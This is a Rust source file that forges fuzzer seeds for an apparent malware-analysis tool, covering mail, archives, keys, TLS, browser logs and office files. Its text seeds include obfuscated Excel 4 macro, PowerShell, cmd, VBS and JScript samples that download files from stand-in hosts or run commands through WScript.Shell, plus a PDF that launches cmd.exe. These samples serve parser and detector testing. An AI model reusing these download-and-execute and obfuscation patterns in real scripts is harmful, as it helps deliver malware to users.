//! Where a fuzzer starts: small good files of every format, forged here.

use crate::forge::archive::zip;
use crate::forge::archive::zip::{Entry, Lock, NameIn};
use crate::forge::carrier::pdf;
use crate::forge::carrier::xlm;
use crate::forge::document::Page;
use crate::forge::{Chance, company, macros};
use anyhow::{Result, ensure};
use hinomi_formats::mail::MboxSplitter;
use std::io::{Read, Write};

/// A seed larger than this only slows the fuzzer down.
const BYTES_MAX: usize = 24 << 10;
/// Documents looked at, to find small ones of every kind.
const DOCUMENTS: usize = 40;

/// A seed: target, name, bytes.
pub type Seed = (&'static str, String, Vec<u8>);

/// The seeds of all targets, the same at every call.
///
/// # Errors
/// When something cannot be forged.
pub fn seeds() -> Result<Vec<Seed>> {
    let mut seeds = written();
    seeds.extend(mails()?);
    seeds.extend(documents()?);
    seeds.extend(workbooks()?);
    seeds.extend(archives()?);
    seeds.extend(stored()?);
    seeds.extend(recordings());
    seeds.extend(servers());
    seeds.extend(watched());
    seeds.extend(keys());
    for packed in [false, true] {
        let lines = vec!["invoice".to_owned()];
        let acts = vec![
            pdf::Act::Link("http://a.example/invoice.doc".to_owned()),
            pdf::Act::Launch("cmd.exe".to_owned()),
            pdf::Act::OpenScript("app.launchURL('http://b.example/x')".to_owned()),
            pdf::Act::Embedded("a.doc".to_owned(), b"invoice".to_vec()),
        ];
        let bytes = pdf::Pdf { lines, acts, packed }.write();
        seeds.push(("pdf", if packed { "packed" } else { "plain" }.to_owned(), bytes));
    }
    seeds.retain(|(_, _, bytes)| bytes.len() <= BYTES_MAX);
    Ok(seeds)
}

/// What servers say: flights of every age, and dialogs that lead to them.
fn servers() -> Vec<Seed> {
    let record = |kind: u8, content: &[u8]| {
        let length = u16::try_from(content.len()).unwrap_or(u16::MAX).to_be_bytes();
        [&[kind, 3, 3], &length[..], content].concat()
    };
    let message = |kind: u8, body: &[u8]| {
        let length = u32::try_from(body.len()).unwrap_or(u32::MAX).to_be_bytes();
        [&[kind], &length[1..], body].concat()
    };
    let hello = |suite: [u8; 2], extensions: &[u8]| {
        let length = u16::try_from(extensions.len()).unwrap_or(0).to_be_bytes();
        message(2, &[&[3, 3], &[5; 32][..], &[0], &suite, &[0], &length, extensions].concat())
    };
    let certificate = message(11, &[0, 0, 7, 0, 0, 4, 0x30, 2, 5, 0]);
    let curve = message(12, &[&[3, 0, 0x1D, 32][..], &[9; 32], &[4, 1, 0, 1, 7]].concat());
    let renegotiation = [0xFF, 1, 0, 1, 0, 0, 23, 0, 0, 0, 16, 0, 5, 0, 3, 2, b'h', b'2'];
    let old = [hello([0xC0, 0x2F], &renegotiation), certificate, curve, message(14, &[])].concat();
    let retry = hello([0x13, 1], &[0, 43, 0, 2, 3, 4, 0, 51, 0, 2, 0, 0x1D]);
    let (old, retry, alert) = (record(22, &old), record(22, &retry), vec![21, 3, 3, 0, 2, 2, 40]);
    let v2 = [&[0x80, 31, 4, 0, 1, 0, 2, 0, 1, 0, 3, 0, 16, 0x30, 1, 0, 0x80][..], &[6; 16]].concat();
    // Pieces of eight bytes and more for a survey: length, then zeros that no record begins with are no use, so whole ones.
    let piece = |bytes: &[u8]| {
        let mut piece = bytes.to_vec();
        // alerts that warn fill it up to whole eights
        while !piece.len().is_multiple_of(8) {
            piece.extend([21, 3, 3, 0, 2, 1, 90]);
        }
        [&[u8::try_from(piece.len() / 8).unwrap_or(u8::MAX)], &piece[..]].concat()
    };
    let survey =
        [vec![0xFF], piece(&retry), piece(&old), piece(&alert), piece(&[&alert[..], &old].concat())].concat();
    let dialogs: [(u8, &str, &[u8]); 9] = [
        (100, "smtp", b"220 mail.example\r\n250-mail.example\r\n250 STARTTLS\r\n220 go\r\n"),
        (101, "imap", b"* OK ready\r\na1 OK go\r\n"),
        (102, "pop3", b"+OK ready\r\n+OK go\r\n"),
        (103, "ftp", b"220 ready\r\n234 go\r\n"),
        (104, "ldap", &[0x30, 12, 2, 1, 1, 0x78, 7, 0x0A, 1, 0, 4, 0, 4, 0]),
        (105, "postgres", b"S"),
        (106, "mysql", b"\x1c\0\0\0\x0a8.0\0\x01\0\0\0abcdefgh\0\xff\xff\x21\x02\0"),
        (107, "xmpp", b"<stream:stream><stream:features><starttls/></stream:features><proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"),
        (109, "rdp", &[3, 0, 0, 19, 14, 0xD0, 0, 0, 0x12, 0x34, 0, 2, 0, 8, 0, 1, 0, 0, 0]),
    ];
    let behind = |first: u8, bytes: &[u8]| [&[first], bytes].concat();
    let seed = |target, name: &str, bytes: Vec<u8>| (target, name.to_owned(), bytes);
    let mut seeds = vec![
        seed("tls_flight", "tls12", old),
        seed("tls_flight", "retry", retry),
        seed("tls_flight", "alert", alert.clone()),
        seed("tls_sslv2", "hello", v2),
        seed("tls_sslv2", "alert", alert),
        seed("tls_survey", "all", survey),
    ];
    seeds.extend(
        dialogs.into_iter().map(|(first, name, bytes)| seed("tls_starttls", name, behind(first, bytes))),
    );
    seeds
}

/// Recordings that the tests of their readers keep, behind the byte that says of which format they are; and settings.
fn recordings() -> Vec<Seed> {
    macro_rules! kept {
        ($format:literal, $name:literal) => {
            (
                $format,
                $name,
                include_bytes!(concat!("../../hinomi-formats/src/capture/fixtures/", $name)).as_slice(),
            )
        };
    }
    let recordings = [
        kept!(0, "playwright.har"),
        kept!(1, "chromium.netlog"),
        kept!(1, "webrtc.netlog"),
        kept!(4, "dnsmasq.log"),
        kept!(4, "dnsmasq-extra.log"),
        kept!(4, "unbound-verbose.log"),
        (3, "squid", b"1795452429.123     45 10.0.0.5 TCP_MISS/200 1234 GET http://news.example/a?b=c - HIER_DIRECT/203.0.113.9 text/html\n"),
        (3, "w3c", b"#Fields: date time c-ip cs-method cs-uri-scheme cs-host cs-uri-port cs-uri-path sc-status\n2026-11-23 07:00:00 10.0.0.5 GET http 192.168.0.1 8080 /status 200\n"),
        (3, "combined", b"10.0.0.5 - - [23/Nov/2026:16:00:00 +0900] \"GET http://127.0.0.1:5900/ HTTP/1.1\" 502 0 \"https://shop.example/cart?x=1\" \"-\"\n"),
    ];
    let settings: [(u8, &str, &[u8]); 3] = [
        (0, "dnsmasq", b"stop-dns-rebind\nrebind-localhost-ok\nrebind-domain-ok=/corp.example/\nbogus-nxdomain=100.64.0.0/10\n"),
        (1, "unbound", b"server:\n private-address: 10.0.0.0/8\n private-domain: \"corp.example\"\ninclude: \"more.conf\"\n"),
        (2, "bind", b"acl inside { 10/8; !10.1.0.0/16; };\noptions { deny-answer-addresses { inside; any; } except-from { \"corp.example\"; }; };\n"),
    ];
    let behind = |first: u8, bytes: &[u8]| [&[first], bytes.get(..BYTES_MAX - 1).unwrap_or(bytes)].concat();
    let recordings =
        recordings.into_iter().map(|(first, name, bytes)| ("capture", name.to_owned(), behind(first, bytes)));
    let settings =
        settings.into_iter().map(|(first, name, bytes)| ("resolver", name.to_owned(), behind(first, bytes)));
    recordings.chain(settings).collect()
}

/// Settings on the first line, then what a browser saw.
fn watched() -> Vec<Seed> {
    let all = [
        (
            "scan",
            r#"{"allow":[{"page":"[*.]shop.example","target":"127.0.0.1","ports":[5900,"6000-6100"],"reason":"x","expires":"2027-03-31"}],"overrides":["100.64.0.0/10=public"],"own_domains":["corp.example"],"proxies":["10.0.0.1:3128"]}
{"at":1,"source":"web_request","type":"document","tab":1,"frame":0,"document":{"id":"d","url":"https://shop.example/","ip":"203.0.113.9"}}
{"at":2,"source":"hook","type":"call","tab":1,"document":{"id":"d"},"url":"http://127.0.0.1:5901/","api":"fetch","call_site":{"script":"https://shop.example/a.js","line":3,"column":14,"async_parents":[{"script":"b.js"}]}}
{"at":2,"source":"web_request","type":"request","request":"1","tab":1,"document":{"id":"d"},"url":"http://127.0.0.1:5901/","method":"POST","resource":"xmlhttprequest"}
{"at":3,"source":"web_request","type":"failure","request":"1","tab":1,"url":"http://127.0.0.1:5901/","error":"net::ERR_CONNECTION_REFUSED"}
{"at":3,"source":"web_request","type":"request","request":"2","tab":1,"document":{"id":"d"},"url":"ws://10.0.0.2:6379/","initiator":"https://shop.example"}
{"at":4,"source":"web_request","type":"failure","request":"2","tab":1,"url":"ws://10.0.0.2:6379/","error":"NS_ERROR_LOCAL_NETWORK_ACCESS_DENIED","ip":"10.0.0.2"}
{"at":5.5,"source":"web_request","type":"truncated"}
"#,
        ),
        (
            "rebinding",
            r#"{}
{"at":1,"source":"web_request","type":"response","request":"1","tab":1,"url":"http://a.example/","resource":"main_frame","ip":"203.0.113.9","status":200}
{"at":1,"source":"web_request","type":"document","tab":1,"frame":0,"document":{"id":"a","url":"http://a.example/"}}
{"at":9,"source":"web_request","type":"request","request":"2","tab":1,"document":{"id":"a"},"initiator":"http://a.example","url":"http://a.example/x"}
{"at":9,"source":"web_request","type":"response","request":"2","tab":1,"url":"http://a.example/x","ip":"127.0.0.1"}
{"at":10,"source":"web_request","type":"document","tab":2,"frame":0,"document":{"id":"b","url":"http://a.example/y","ip":"10.0.0.1","opener":"a"}}
{"at":11,"source":"web_request","type":"document","tab":1,"frame":3,"document":{"id":"c","url":"about:blank","parent":"a","top":"a","space":"public"}}
{"at":12,"source":"web_request","type":"document_gone","document":{"id":"a"}}
{"at":13,"source":"web_request","type":"redirect","request":"3","tab":1,"document":{"id":"c"},"url":"http://b.example/","ip":"192.168.0.1"}
"#,
        ),
        (
            "webrtc",
            r#"{}
{"at":1,"type":"webrtc","source":"hook","document":{"id":"d","url":"https://call.example/"},"webrtc":{"servers":["stun:127.0.0.1:3478","turns:[::1]"],"candidates":["192.168.0.7:50000/udp","127.0.0.1:9/tcp","a.local:1/udp"],"ufrag":{"len":256,"own":false,"hash":"x"}},"api":"rtc.sdp"}
{"at":2,"type":"request","source":"cdp","document":{"id":"d"},"url":"http://abcdefghij0123456789abcdefghij0123456789.local/","speculative":true}
{"at":3,"type":"request","source":"cdp","document":{"id":"d"},"url":"http://0x7f.1:11211/","resource":"main_frame","request":"r","method":"POST","content_type":"text/plain"}
"#,
        ),
        (
            "names",
            r#"{"own_domains":["corp.example"]}
{"at":1,"type":"resolution","source":"dns_log","name":"a.example.","answers":["203.0.113.9"],"client":"10.0.0.5"}
{"at":2,"type":"resolution","source":"dns_log","name":"a.example","answers":["10.0.0.9","::ffff:127.0.0.1"],"client":"10.0.0.5"}
{"at":3,"type":"resolution","source":"dns_log","name":"b.example","error":"possible DNS-rebind attack detected"}
{"at":4,"type":"proxy","proxied":true,"answers":["10.0.0.1:3128"]}
{"at":5,"type":"response","source":"pcap","document":{"url":"http://c.example/"},"url":"http://d.example/","ip":"10.0.0.1","from_cache":true}
"#,
        ),
    ];
    all.into_iter().map(|(name, text)| ("watch", name.to_owned(), text.as_bytes().to_vec())).collect()
}

/// Files that the tests of the readers keep, made by other people's tools.
fn stored() -> Result<Vec<Seed>> {
    macro_rules! kept {
        ($target:literal, $folder:literal, $($name:literal),*) => {
            [$(($target, $name, include_str!(concat!("../../hinomi-formats/src/", $folder, "/fixtures/", $name, ".b64")))),*]
        };
    }
    let seven = kept!(
        "seven",
        "archive",
        "lzma2.7z",
        "bcj2.7z",
        "bzip2.7z",
        "deflate.7z",
        "delta.7z",
        "arm64.7z",
        "aes-header.7z"
    );
    let lzh = kept!("lzh", "archive", "stored.lzh", "level0-lh5.lzh", "level1-lh6.lzh", "level2-lh7.lzh");
    let rar = kept!("rar", "archive", "v4.rar", "v5.rar", "v4-header.rar", "v5-header.rar");
    let cab = kept!("cab", "archive", "stored.cab", "mszip.cab");
    let discs = kept!("iso", "archive", "joliet.iso.gz", "rock.iso.gz");
    let tapes = kept!("tar", "archive", "gnu.tar.gz", "pax.tar.gz", "ustar.tar.gz", "v7.tar.gz");
    let locked = kept!(
        "pdf_locked",
        "carrier/pdf",
        "r2.pdf",
        "r4-aes.pdf",
        "r4-packed.pdf",
        "r6-packed.pdf",
        "user-r6.pdf"
    );
    let all = seven.iter().chain(&lzh).chain(&rar).chain(&cab).chain(&discs).chain(&tapes).chain(&locked);
    all.map(|(target, name, base64)| {
        let mut bytes = from_base64(base64);
        if name.ends_with(".gz") {
            let packed = std::mem::take(&mut bytes);
            flate2::read::GzDecoder::new(packed.as_slice()).read_to_end(&mut bytes)?;
        }
        if *target == "iso" {
            // The target puts the empty sectors before the descriptors back.
            bytes.drain(..(16 << 11).min(bytes.len()));
            bytes.truncate(BYTES_MAX);
        }
        Ok((*target, (*name).to_owned(), bytes))
    })
    .collect()
}

/// Files with keys that the tests of their readers keep: for the target of all, and for that of their format.
fn keys() -> Vec<Seed> {
    let lines = include_str!("../../hinomi-formats/src/trust/keys/fixtures/objects.b64").lines();
    let files: Vec<(&str, Vec<u8>)> =
        lines.filter_map(|line| line.split_once(' ')).map(|(name, text)| (name, from_base64(text))).collect();
    let whole = files.iter().map(|(name, bytes)| ("keys", (*name).to_owned(), bytes.clone()));
    // What the target puts before them is taken away.
    let behind = |kind: u8, bytes: &[u8], head: usize| {
        let rest = bytes.get(head..).unwrap_or_default();
        [&[kind], rest].concat()
    };
    let decoded = |bytes: &[u8]| {
        let text = String::from_utf8_lossy(bytes).into_owned();
        let lines = text.lines().filter(|line| !line.starts_with('-') && !line.contains(':'));
        from_base64(&lines.collect::<Vec<_>>().join("\n"))
    };
    let own = files.iter().filter_map(|(name, bytes)| {
        let (target, bytes) = match name.rsplit_once('.').map_or(*name, |(_, ending)| ending) {
            "p12" => ("keys_pkcs12", bytes.clone()),
            "jks" => ("keys_store", behind(0, bytes, 8)),
            "jceks" => ("keys_store", behind(2, bytes, 8)),
            "bks" => ("keys_store", behind(if bytes.get(3) == Some(&2) { 4 } else { 5 }, bytes, 4)),
            "asc" => ("keys_pgp", decoded(bytes)),
            "gpg" => ("keys_pgp", bytes.clone()),
            "ppk" => ("keys_ssh", behind(3, bytes, "PuTTY-User-Key-File-".len())),
            "pub" | "authorized_keys" | "known_hosts" => ("keys_ssh", behind(1, bytes, 0)),
            "rfc4716" => ("keys_ssh", behind(4, bytes, "---- BEGIN SSH2 PUBLIC KEY ----\n".len())),
            "ed25519" | "ecdsa" | "gcm" => ("keys_ssh", behind(0, &decoded(bytes), "openssh-key-v1\0".len())),
            "der" => ("keys_asn1", behind(if name.starts_with("cert") { 0 } else { 7 }, bytes, 0)),
            "pem" => ("keys_asn1", behind(label(bytes), &decoded(bytes), 0)),
            _ => return None,
        };
        Some((target, (*name).to_owned(), bytes))
    });
    let number =
        |seed: u8| (0..32_u8).map(move |at| at.wrapping_mul(seed) ^ seed | 0x81).collect::<Vec<u8>>();
    let moduli: Vec<u8> = [vec![0], number(7), number(11), number(7), number(21)].concat();
    whole.chain(own).chain([("keys_moduli", "four".to_owned(), moduli)]).collect()
}

/// The number of a file's label among those of the target.
fn label(bytes: &[u8]) -> u8 {
    let is_it = |label: &&str| bytes.starts_with(format!("-----BEGIN {label}-----").as_bytes());
    let at = crate::fuzz_targets::LABELS.iter().position(is_it);
    at.and_then(|at| u8::try_from(at).ok()).unwrap_or(0)
}

/// Undoes base64; line ends and padding are skipped.
pub(crate) fn from_base64(text: &str) -> Vec<u8> {
    let value = |letter: u8| match letter {
        b'A'..=b'Z' => Some(letter - b'A'),
        b'a'..=b'z' => Some(letter - b'a' + 26),
        b'0'..=b'9' => Some(letter - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    };
    let values: Vec<u8> = text.bytes().filter_map(value).collect();
    let group = |four: &[u8]| {
        let bits = four.iter().fold(0_u32, |bits, value| bits << 6 | u32::from(*value));
        let bytes = (bits << (6 * (4 - four.len()))).to_be_bytes();
        bytes.into_iter().skip(1).take(four.len().saturating_sub(1)).collect::<Vec<u8>>()
    };
    values.chunks(4).flat_map(group).collect()
}

/// Seeds that are a few lines of text.
fn written() -> Vec<Seed> {
    let text: [(&'static str, &str, &[u8]); 28] = [
        ("calendar", "invitation", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"A; B\":mailto:a@b.example\r\nATTACH;ENCODING=BASE64;FILENAME=a.txt:aGVs\r\n bG8=\r\nX-ALT-DESC;FMTTYPE=text/html:<a href=\"http://a.example/\">x</a>\r\nSUMMARY;CHARSET=SHIFT_JIS;ENCODING=QUOTED-PRINTABLE:=90=BF=\r\n=8B=81\r\nDESCRIPTION;ALTREP=\"data:text/html;base64,YQ==\":a\\, b\\n\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
        ("text", "iso-2022-jp", b"ISO-2022-JP\n\x1b$B@A5a=q\x1b(B.doc"),
        ("text", "shift-jis", b"Shift_JIS\n\x90\xbf\x8b\x81\x8f\x91"),
        ("text", "euc-jp", b"x-euc-jp\n\xc0\xc1\xb5\xe1\xbd\xf1"),
        ("text", "utf-7", b"utf-7\n+ZeVnLIqe-"),
        ("text", "lying", b"us-ascii\n\xe8\xab\x8b\xe6\xb1\x82"),
        ("mbox", "three", b"From a@b.example Tue Jul 21 09:30:00 2020\nSubject: a\n\n>From the start\n\nFrom c@d.example Tue Jul 21 09:31:00 2020\n\nb\n\nFrom - Tue Jul 21 09:32:00 2020\r\n\r\nc\r\n"),
        ("url", "glued", b"$u='http://a.example/x*https://b.example/y'.Split('*')"),
        ("url", "odd", b"hxxp://a[.]example/ http://u:p@0x7f.1:8080/%41?q=http://c.example <https://\xe4\xbe\x8b.example>"),
        ("decode", "plain-base64", b"\x00aHR0cDovL2EuZXhhbXBsZS94"),
        ("decode", "powershell", b"\x00powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8A"),
        ("decode", "json", b"\x01F{\"a\":[1,{\"b\":\"x\"}]}"),
        ("decode", "four", b"\x04\x01\x14(<10 20 30 http://a.example/"),
        ("recipe", "base64", b"From_Base64('A-Za-z0-9+/=',true)Decode_text('UTF-16LE (1200)')\naAB0AHQAcAA="),
        ("recipe", "json", b"[{\"op\":\"From Hex\",\"args\":[\"Auto\"]},{\"op\":\"Gunzip\",\"args\":[]}]\n1f8b0800"),
        ("recipe", "xor", b"XOR({'option':'Hex','string':'2a'},'Standard',false)Find_/_Replace({'option':'Regex','string':'a+'},'b',true,false,true,false)\naaaa"),
        ("script_xlm", "names", b"=SET.NAME(\"i\",1)\n=WHILE(i<4)\n=SET.NAME(\"s\",s&CHAR(CODE(MID(\"bne\",i,1))+1))\n=SET.NAME(\"i\",i+1)\n=NEXT()\n=EXEC(s&\" /c echo \"&R9C1)\n=IF(GET.WORKSPACE(19),HALT(),GOTO(A8))\n=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://a.example/x\",\"x\",0,0)\nhttp://b.example/y"),
        ("script_xlm", "written", b"=FORMULA(\"=EXEC(\"\"cmd /c \"&\"echo\"\")\",R[3]C)\n=SET.VALUE(B1:C2,{1,2;3,4})\n=FOR.CELL(\"c\",B1:C2,TRUE)\n\n=SUBSTITUTE(REPT(\"ab\",9),\"a\",c)\n=NEXT()\n=RETURN()"),
        ("script_text", "wsh", b"Set s = CreateObject(\"WScript.\" & \"Shell\")\ns.Run \"cmd /c echo http://a.example/x\", 0\n"),
        ("script_text", "powershell", b"$w=New-Object Net.WebClient;foreach($u in 'http://a.example/x','http://b.example/y'){try{$w.DownloadFile($u,'t.tmp')}catch{}}"),
        ("powershell", "joined", b"$u='hXtp'.Replace('X','t')+'://a.example/'+(('b','c')-join'');iwr $u -OutFile \"$env:TEMP\\x.txt\";&($PSHOME[4]+$PSHOME[34]+'X') 'echo 1'"),
        ("powershell", "loop", b"function d($t,$k){$o='';for($i=0;$i -lt $t.Length;$i+=2){$o+=[char]([Convert]::ToInt32($t.Substring($i,2),16) -bxor $k)};return $o}\niex (d '01020304' 0x42)\n'{1}{0}'-f 'b','a'|%{$_.ToUpper()}"),
        ("cmd", "variables", b"@echo off\r\nsetlocal enabledelayedexpansion\r\nset a=cu&set b=rl\r\nfor %%i in (h t) do set c=!c!%%i\r\ncall %a%%b% !c!tp://a.example/%a:~0,1%\r\nif exist x.txt (start x.txt) else (del x.txt)\r\n"),
        ("cmd", "nested", b"cmd /v:on /c \"set x=abc&&for /l %i in (2,-1,0) do set y=!y!!x:~%i,1!&&if %i==0 echo !y!|cmd\"\r\nfor /f \"tokens=4 delims=s\\\" %a in ('set^|findstr PSM') do %a -v\r\n"),
        ("vbs", "loop", b"On Error Resume Next\na = Array(104, 105)\nFor i = 0 To UBound(a) : s = s & Chr(a(i) Xor 0) : Next\nExecute \"x = StrReverse(Join(Split(s, \"\"\"\"), \"\"\"\"))\"\nWith CreateObject(\"WScript.Shell\")\n.Run \"cmd /c echo \" & x, 0\nEnd With\n"),
        ("vbs", "procedure", b"Class A\nPublic Function f(ByVal t)\nDo While Len(t) > 0\nf = f & Left(t, 1) : t = Mid(t, 2)\nLoop\nEnd Function\nEnd Class\nSet o = New A\nSelect Case Len(o.f(\"ab\"))\nCase 2 : MsgBox o.f(\"cd\")\nCase Else\nEnd Select\n"),
        ("jscript", "loop", b"var a=[104,105],s='';for(var i=0;i<a.length;i++){s+=String.fromCharCode(a[i]^0)}eval('var x='+'\"'+s.split('').reverse().join('')+'\"');new ActiveXObject('WScript.Shell').Run('cmd /c echo '+x,0);"),
        ("jscript", "functions", b"(function(f,g){try{return f.apply(this,[g.replace(/(a)/g,function(m){return m+'b'})])}catch(e){throw e}finally{}})(function(t){return unescape(t)},'%61a');var o={k:`t${1}`,m:(x)=>x+1};for(var k in o){delete o[k]}"),
    ];
    text.into_iter().map(|(target, name, bytes)| (target, name.to_owned(), bytes.to_vec())).collect()
}

/// Messages of the sample company, the smallest with and without a file.
fn mails() -> Result<Vec<Seed>> {
    let company = company::build()?;
    let mut found: Vec<&[u8]> = Vec::new();
    for (_, bytes) in company.folder.iter().filter(|(name, _)| name.ends_with(".mbox")) {
        let (mut splitter, mut ranges) = (MboxSplitter::new(), Vec::new());
        splitter.push(bytes, &mut ranges);
        splitter.finish(&mut ranges);
        let message = |range: std::ops::Range<u64>| {
            bytes.get(usize::try_from(range.start).ok()?..usize::try_from(range.end).ok()?)
        };
        found.extend(ranges.into_iter().filter_map(message));
    }
    found.sort_by_key(|bytes| (bytes.len(), *bytes));
    let (with, without): (Vec<&[u8]>, Vec<&[u8]>) =
        found.into_iter().partition(|bytes| bytes.windows(11).any(|window| window == b"attachment;"));
    ensure!(with.len() >= 3 && without.len() >= 3, "failed to find messages in the sample company");
    let named = with.into_iter().take(3).chain(without.into_iter().take(3)).enumerate();
    Ok(named
        .flat_map(|(at, bytes)| {
            ["mail", "tree"].map(|target| (target, format!("message-{at}"), bytes.to_vec()))
        })
        .collect())
}

/// Documents, an attack and an honest one of every container, and what is in them.
fn documents() -> Result<Vec<Seed>> {
    let mut seeds = Vec::new();
    let mut kinds = std::collections::BTreeSet::new();
    for number in 0..DOCUMENTS {
        let macros::Forged { bytes, truth } = macros::any(number, 1)?;
        let extension = truth.container.extension();
        if bytes.len() > BYTES_MAX || !kinds.insert((extension, truth.verdict)) {
            continue;
        }
        let name = format!("{}.{extension}", truth.verdict);
        let targets: &[&'static str] =
            if bytes.starts_with(b"PK") { &["office", "zip", "tree"] } else { &["office", "cfb", "tree"] };
        seeds.extend(targets.iter().map(|target| (*target, name.clone(), bytes.clone())));
        let source: Vec<String> = truth.modules.into_iter().map(|module| module.code).collect();
        seeds.push(("script_vba", name.clone(), source.join("\n'---\n").into_bytes()));
        seeds.extend(truth.command.map(|line| ("command", name, line.into_bytes())));
    }
    Ok(seeds)
}

/// Workbooks with Excel 4 macros, one a container, each with another way to hide.
fn workbooks() -> Result<Vec<Seed>> {
    let mut chance = Chance::new(1);
    let mut seeds = Vec::new();
    let styles = [xlm::Style::XlmPlain, xlm::Style::XlmCells, xlm::Style::XlmSelfModifying];
    for (container, style) in xlm::Container::ALL.into_iter().zip(styles) {
        let page = Page { lines: vec!["invoice".to_owned()] };
        let forged = xlm::attack(style, xlm::Shown::Very, page, &mut chance);
        let bytes = forged.workbook.write(container, &mut chance)?;
        let name = format!("macros.{}", container.extension());
        seeds.extend(["workbook", "office"].map(|target| (target, name.clone(), bytes.clone())));
    }
    Ok(seeds)
}

/// Archives with each lock and each way to write a name.
fn archives() -> Result<Vec<Seed>> {
    let mut chance = Chance::new(1);
    let entry =
        |name_in, lock| Entry {
            name: "請求書.txt".to_owned(), name_in, bytes: b"invoice ".repeat(40), lock
        };
    let one = |lock| vec![entry(NameIn::Cp932, lock)];
    let inner = zip::write(&one(Lock::None), &mut chance);
    let nested = vec![Entry::open("inner.zip", inner), entry(NameIn::Utf8, Lock::None)];
    let mut seeds = Vec::new();
    for (name, entries) in [
        ("open", one(Lock::None)),
        ("zipcrypto", one(Lock::ZipCrypto("infected".to_owned()))),
        ("aes", one(Lock::Aes256("infected".to_owned()))),
        ("nested", nested),
    ] {
        let bytes = zip::write(&entries, &mut chance);
        seeds.extend(["zip", "tree"].map(|target| (target, format!("{name}.zip"), bytes.clone())));
    }
    let mut gzip =
        flate2::GzBuilder::new().filename("a.txt").write(Vec::new(), flate2::Compression::default());
    gzip.write_all(&b"invoice ".repeat(40))?;
    let bytes = gzip.finish()?;
    seeds.push(("gzip", "two-members".to_owned(), bytes.repeat(2)));
    seeds.push(("gzip", "one".to_owned(), bytes));
    Ok(seeds)
}
